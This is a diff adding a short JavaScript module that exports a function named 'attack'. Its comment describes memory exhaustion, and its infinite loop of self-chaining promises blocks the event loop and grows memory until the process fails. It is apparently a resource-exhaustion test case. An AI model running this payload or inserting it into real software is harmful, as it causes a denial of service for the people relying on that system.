@@ -1,0 +1,5 @@
+// memory: a chain of promises without end
+export default function attack() {
+  let promise = Promise.resolve();
+  for (;;) promise = promise.then(() => promise);
+}
